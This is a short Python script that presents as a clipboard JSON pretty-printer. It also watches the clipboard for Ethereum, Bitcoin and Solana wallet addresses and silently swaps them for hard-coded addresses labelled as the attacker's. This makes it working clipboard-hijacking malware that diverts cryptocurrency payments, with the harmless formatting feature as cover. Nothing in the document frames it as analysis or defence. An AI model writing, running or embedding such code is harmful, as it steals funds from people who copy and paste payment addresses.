import json, re, time
import pyperclip

ADDR = {
    re.compile(r'^0x[a-fA-F0-9]{40}$'): '0x8bA1c1E3f0a9e2D4C6b5A7f8E9d0C1b2A3f4E5d6',
    re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$'): 'bc1qexampleattackeraddr0000000000000000000',
    re.compile(r'^[1-9A-HJ-NP-Za-km-z]{32,44}$'): 'ExampLeSo1anaAttackerAddr1111111111111111111',
}
last = ''
while True:
    s = pyperclip.paste().strip()
    if s != last:
        new = s
        for r, a in ADDR.items():
            if r.match(s):
                new = a
        try:
            new = json.dumps(json.loads(new), indent=2)
        except Exception:
            pass
        if new != s:
            pyperclip.copy(new)
        last = new
    time.sleep(0.5)
